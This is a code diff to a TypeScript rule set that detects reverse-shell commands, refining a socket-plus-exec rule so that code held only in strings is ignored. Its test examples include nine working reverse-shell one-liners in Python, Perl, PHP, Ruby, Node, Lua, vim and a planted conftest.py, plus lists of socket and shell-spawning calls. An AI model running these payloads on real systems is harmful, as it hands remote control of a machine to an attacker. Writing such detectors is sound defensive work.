@@ -604,6 +604,12 @@ const SOCKET_HINTS = ['socket', 'net.Dial', 'using Sockets', 'fsockopen', 'TCPSo
 const EXEC_HINTS = ['dup2', 'pty.spawn', 'subprocess', '/bin/sh', '/bin/bash', 'cmd.exe', 'proc_open', 'child_process', 'os.execute', 'io.popen', 'popen', 'shell_exec', 'passthru', 'STDIN', 'fdopen', '|&', 'spawn', 'exec(', 'exec ', 'system(', 'system$', '`'];
 /** A socket made, not only its module named (`socket.gethostbyname` looks a name up). */
 const opensSocket = (code: string) => SOCKET_HINTS.some((h) => h !== 'socket' && code.includes(h)) || (code.includes('socket') && /socket\s*\(|SOCK_(?:STREAM|DGRAM|RAW)|create_connection|\.connect\b/.test(code));
+/** Calls that run a string as code. */
+const EVALUATES = /\b(?:load|loadstring|eval|exec|compile|Function|instance_eval|runInThisContext|dofile)\s*\(/;
+/** The calls that hand a process a socket's ends: a shell's descriptors duplicated onto it, a pty or a child process. */
+const SHELL_ON_SOCKET = ['dup2', 'pty.spawn', '/bin/sh', '/bin/bash', 'subprocess', 'child_process', 'proc_open', 'os.execute', 'io.popen'];
+/** Code in any text (a unit's ExecStart, a cron line a script writes) that opens a socket and hands it a shell. */
+export const wiresShellToSocket = (text: string): boolean => opensSocket(text) && SHELL_ON_SOCKET.some((h) => text.includes(h));
 
 /** ssh options that take a value, so the destination is the first word that is neither. */
 const SSH_VALUE_FLAGS = new Set('BbcDEeFIiJLlmOoPpQRSWw'.split(''));
@@ -835,11 +841,15 @@ export const RULES: readonly Rule[] = [
     check: (i) => {
       for (const s of i.view?.scripts ?? []) {
         if (s.code.length > 20000) continue;
-        if (SOCKET_HINTS.some((h) => s.code.includes(h)) && EXEC_HINTS.some((h) => s.code.includes(h))) return `${s.lang}: ${s.code.slice(0, 160)}`;
+        if (!SOCKET_HINTS.some((h) => s.code.includes(h)) || !EXEC_HINTS.some((h) => s.code.includes(h))) continue;
+        // code held only in a string (`s = 'import socket…'; print(len(s))`) is data unless the code itself reaches a
+        // socket or a process, or evaluates what it holds (lua's `load((…):gsub(…))()`)
+        const bare = codeOutsideStrings(s.code, s.lang);
+        if (SOCKET_HINTS.some((h) => bare.includes(h)) || EXEC_HINTS.some((h) => bare.includes(h)) || EVALUATES.test(bare)) return `${s.lang}: ${s.code.slice(0, 160)}`;
       }
       return undefined;
     },
-    examples: { fire: ["jrunscript -e 'var s=new java.net.Socket(\"203.0.113.9\",4444);var p=new java.lang.ProcessBuilder(\"/bin/sh\").redirectErrorStream(true).start()'", "vim -c ':py3 import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'", "TF=$(mktemp); echo 'local s=require(\"socket\");local t=assert(s.tcp());t:connect(\"203.0.113.9\",4444);while true do local r=t:receive();local f=io.popen(r);t:send(f:read(\"*a\")) end' > $TF; nmap --script=$TF", "printf 'import os,socket\\ns=socket.create_connection((\"45.61.139.22\",4444))\\nfor f in (0,1,2): os.dup2(s.fileno(),f)\\nos.system(\"/bin/sh -i\")\\n' > conftest.py && pytest -q", 'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("10.10.14.3",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")\'', 'perl -e \'use Socket;$i="1.2.3.4";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");\'', 'php -r \'$s=fsockopen("198.51.100.7",9001);exec("/bin/sh -i <&3 >&3 2>&3");\'', 'ruby -rsocket -e \'f=TCPSocket.open("45.33.12.7",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'', 'node -e \'sh=require("child_process").spawn("/bin/sh");require("net").connect(4444,"45.33.12.7",function(){this.pipe(sh.stdin);sh.stdout.pipe(this)})\''], quiet: ['python3 -c "import socket; print(socket.gethostname())"', 'node -e "console.log(require(\'os\').cpus().length)"', 'python3 -c \'import subprocess; subprocess.run(["ls"])\''] },
+    examples: { fire: ["jrunscript -e 'var s=new java.net.Socket(\"203.0.113.9\",4444);var p=new java.lang.ProcessBuilder(\"/bin/sh\").redirectErrorStream(true).start()'", "vim -c ':py3 import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'", "TF=$(mktemp); echo 'local s=require(\"socket\");local t=assert(s.tcp());t:connect(\"203.0.113.9\",4444);while true do local r=t:receive();local f=io.popen(r);t:send(f:read(\"*a\")) end' > $TF; nmap --script=$TF", "printf 'import os,socket\\ns=socket.create_connection((\"45.61.139.22\",4444))\\nfor f in (0,1,2): os.dup2(s.fileno(),f)\\nos.system(\"/bin/sh -i\")\\n' > conftest.py && pytest -q", 'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("10.10.14.3",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")\'', 'perl -e \'use Socket;$i="1.2.3.4";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");\'', 'php -r \'$s=fsockopen("198.51.100.7",9001);exec("/bin/sh -i <&3 >&3 2>&3");\'', 'ruby -rsocket -e \'f=TCPSocket.open("45.33.12.7",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'', 'node -e \'sh=require("child_process").spawn("/bin/sh");require("net").connect(4444,"45.33.12.7",function(){this.pipe(sh.stdin);sh.stdout.pipe(this)})\''], quiet: [`python3 -c "s = 'import socket,subprocess;s=socket.socket()'; print(len(s), s.count(';'))"`, 'python3 -c "import socket; print(socket.gethostname())"', 'node -e "console.log(require(\'os\').cpus().length)"', 'python3 -c \'import subprocess; subprocess.run(["ls"])\''] },
   },
   {
     id: 'PX-C2-006', name: 'xterm-to-remote-display', score: 85, tactic: 'command_and_control', technique: 'T1059.004', strong: true,
